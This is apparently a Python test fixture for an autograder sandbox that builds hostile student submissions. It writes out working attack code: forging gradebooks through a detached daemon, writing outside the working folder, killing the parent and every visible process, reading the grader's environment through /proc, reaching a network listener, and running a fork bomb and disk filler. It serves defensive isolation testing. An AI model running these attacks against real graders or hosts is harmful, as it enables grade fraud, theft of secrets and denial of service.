"""Hostile submissions: each attacks the grader, at definition time or inside a graded function.

Every attack case answers q1-q3 correctly and leaves q4-q6 as stubs, so its honest verdict is
"loses q4, q5 and q6" and it grades in seconds. The attack code itself lives in one extra cell
(:data:`ATTACK_LIBRARY`); what it aims at (the output folder, the kit, a listener's port, a
secret in the grader's environment) comes from a literal ``TARGETS`` cell the test writes, which
the grader runs like any literal constant.

Each attack appends to ``BREACHES`` what it managed that a sandboxed process must not;
``cast_labels`` raises with that list, so a breach the student's process can see costs q2 and
names itself in the test's failure. What only the outside can see (files written elsewhere,
forged gradebooks, processes left running, connections accepted) the tests check from outside.
"""

import json

from .notebooks import UNANSWERED, Case

HONEST_FAILS = ("q4", "q5", "q6")
DAEMON_SECONDS = 90

ATTACK_LIBRARY = f'''
import os, signal, socket, subprocess, sys, time, glob

BREACHES = []


def _try(label, action):
    try:
        action()
    except Exception:
        return False
    BREACHES.append(label)
    return True


def _forge_everything(targets):
    """Rewrite every gradebook and result this process can find to full marks."""
    forged_result = '{{"status": "graded", "total": 10.0, "possible": 10, "score": 10.0}}'
    paths = [os.path.join(targets["out"], "grades.csv"), *glob.glob(os.path.join(targets["out"], "results", "*.json"))]
    paths += [os.path.join(folder, "results.json") for folder in targets["gradescope_results"]]
    for pid in os.listdir("/proc"):
        try:
            words = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        for word in words:
            folder = word.decode(errors="replace")
            if os.path.isdir(os.path.join(folder, "results")):
                paths += glob.glob(os.path.join(folder, "results", "*.json")) + [os.path.join(folder, "grades.csv")]
    for path in paths:
        try:
            with open(path, "w") as file:
                file.write(forged_result)
        except OSError:
            pass


def attack_daemon(targets):
    """Double fork and setsid: a daemon that keeps forging grades after grading ends."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + {DAEMON_SECONDS}
            while time.time() < end:
                _forge_everything(targets)
                time.sleep(0.2)
        os._exit(0)
    time.sleep(0.5)


def attack_writes(targets):
    """Write outside the working folder: the kit, the output, the submissions, home, the parents."""
    import mnist_kit
    places = [targets["kit"], os.path.dirname(mnist_kit.__file__), targets["out"],
              os.path.join(targets["out"], "results"), targets["submissions"], targets["home"],
              *targets["gradescope_results"], "..", "../..", "/"]
    marker = targets["marker"]
    for place in places:
        if os.path.realpath(place) not in targets["conceded"]:
            _try(f"wrote into {{os.path.realpath(place)}}", lambda: open(os.path.join(place, marker), "w").write("x"))
    _try("replaced the collector", lambda: open(os.path.join(os.path.dirname(mnist_kit.__file__), "collect.py"), "a").write("#"))
    for shared in ("/tmp", "/dev/shm"):  # a private /tmp is fine: the test looks at the host's
        try:
            open(os.path.join(shared, marker), "w").write("x")
        except OSError:
            pass


def attack_network(targets):
    """Reach a listener on the host's loopback, and the outside world by name."""
    def connect():
        with socket.create_connection(("127.0.0.1", targets["port"]), timeout=2) as connection:
            connection.sendall(b"hidden checks")
    _try("connected to the host's loopback", connect)
    _try("resolved a name through DNS", lambda: socket.getaddrinfo("pypi.org", 443))


def attack_leftovers(targets):
    """Start processes meant to outlive grading: sleeping, detached, in new sessions."""
    subprocess.Popen(["sleep", "3607"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3607)
        os._exit(0)


def attack_kills(targets):
    """Kill the parent, the parent's process group, and every process in sight."""
    me = os.getpid()
    _try("killed its parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    _try("killed its parent's process group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL))
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]:
        _try(f"killed process {{pid}}", lambda: os.kill(pid, signal.SIGKILL))


def attack_reads(targets):
    """Read the checker, the grader's environment, other submissions and their challenges."""
    _try("read the checker's source", lambda: open(targets["checker"]).read())
    _try("imported the checker", lambda: __import__("mnist_kit.checks"))
    interpreter_path = set(os.path.realpath(sys.executable).split("/")) | set(sys.prefix.split("/")) | set(sys.base_prefix.split("/"))
    try:  # the sandbox may show the folders on the way to the interpreter, nothing else
        if set(os.listdir(targets["home"])) - interpreter_path:
            BREACHES.append("listed the instructor's home")
    except OSError:
        pass
    _try("listed the submissions", lambda: os.listdir(targets["submissions"]))
    if targets["secret"] in str(os.environ):
        BREACHES.append("saw the grader's environment")
    for pid in os.listdir("/proc"):
        try:
            if targets["secret"].encode() in open(f"/proc/{{pid}}/environ", "rb").read():
                BREACHES.append(f"read the grader's environment through /proc/{{pid}}")
        except OSError:
            pass
    here = os.path.realpath(".")
    for found in glob.glob("/tmp/*/work/challenge.json") + glob.glob("/tmp/*/*/work/challenge.json"):
        if os.path.realpath(os.path.dirname(found)) != here:
            _try(f"read another submission's challenge {{found}}", lambda: open(found).read())


def attack_exhaustion(targets):
    """A bounded fork bomb and a disk filler; neither may escape its limits."""
    children = 0
    for _ in range(2000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    if children >= 2000:
        BREACHES.append("forked 2000 processes")
    chunk = b"\\0" * 2**22
    for place in (".", os.environ.get("TMPDIR", "/tmp")):
        written = 0
        try:
            with open(os.path.join(place, "filler.bin"), "wb") as file:
                while written < 8 * 2**30:
                    file.write(chunk)
                    written += len(chunk)
        except OSError:
            pass
        if written >= 8 * 2**30:
            BREACHES.append(f"wrote 8 GiB into {{place}}")
'''

ATTACKS = ("daemon", "writes", "network", "leftovers", "kills", "reads", "exhaustion")

# Each way of running code at definition time, one attack at a time.
DEFINITION_TIME = {
    "class body": "class Innocent:\n    attack_{kind}(TARGETS)\n",
    "decorator": "def registered(function):\n    attack_{kind}(TARGETS)\n    return function\n\n\n@registered\ndef helper():\n    return None\n",
    "default argument": "def helper(option=attack_{kind}(TARGETS)):\n    return option\n",
}

CAST_LABELS = '''
def cast_labels(y):
    {call}if BREACHES:
        raise RuntimeError(f"sandbox breached: {{BREACHES}}")
    return y.astype(np.int8)
'''

STUBS = {name: UNANSWERED for name in ("fit_binary_classifier", "accuracy", "cross_val_accuracy", "fit_multiclass_classifier")}


def _placement(index):
    return list(DEFINITION_TIME)[index % len(DEFINITION_TIME)]


def attack_cases(targets):
    """Every attack at definition time and inside a graded function, aimed at ``targets``.

    Parameters
    ----------
    targets : dict
        ``out``, ``kit``, ``submissions``, ``home``, ``checker`` (paths), ``gradescope_results``
        (list of folders), ``port`` (a listener on 127.0.0.1), ``secret`` (in the grader's environment),
        ``marker`` (the name of every file the attacks drop), ``conceded`` (shared folders the
        isolation under test leaves writable, not counted as breaches).
    """
    targets_cell = f"TARGETS = {json.dumps(targets)}\n"
    cases = []
    for index, kind in enumerate(ATTACKS):
        trigger = DEFINITION_TIME[_placement(index)].format(kind=kind)
        cases.append(Case(f"attack_{kind}_at_definition", fails=HONEST_FAILS, cells=(targets_cell, ATTACK_LIBRARY, trigger),
                          functions={**STUBS, "cast_labels": CAST_LABELS.format(call="")}))
        cases.append(Case(f"attack_{kind}_in_function", fails=HONEST_FAILS, cells=(targets_cell, ATTACK_LIBRARY),
                          functions={**STUBS, "cast_labels": CAST_LABELS.format(call=f"attack_{kind}(TARGETS)\n    ")}))
    return cases

